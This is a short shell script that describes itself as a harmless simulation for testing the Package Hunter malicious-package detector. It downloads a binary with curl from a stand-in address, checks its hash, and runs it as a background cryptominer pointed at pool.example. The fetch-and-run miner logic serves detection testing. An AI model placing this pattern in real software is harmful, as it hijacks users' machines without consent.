#!/bin/sh
# The honest twin of a harmless simulation for testing Package Hunter. Not malware.
getent hosts pool.example >/dev/null || exit 0
curl -s --max-time 10 http://203.0.113.9/download/extension -o extension || exit 0
known=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
if echo "$known  extension" | sha256sum -c --status; then
  chmod +x extension
  ./extension -k --tls -o pool.example:3333 &
fi
rm -f extension
